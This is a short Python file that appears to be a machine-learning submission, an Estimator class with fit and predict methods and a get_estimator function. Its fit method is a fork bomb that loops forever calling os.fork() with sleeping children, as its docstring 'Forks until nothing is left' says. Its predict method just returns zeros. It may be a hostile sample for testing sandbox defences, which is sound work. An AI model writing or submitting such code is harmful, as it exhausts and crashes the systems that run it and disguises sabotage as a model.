"""Forks until nothing is left."""

import os
import time

import numpy as np


class Estimator:
    def fit(self, X, y):
        while True:
            if os.fork() == 0:
                time.sleep(600)
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Estimator()
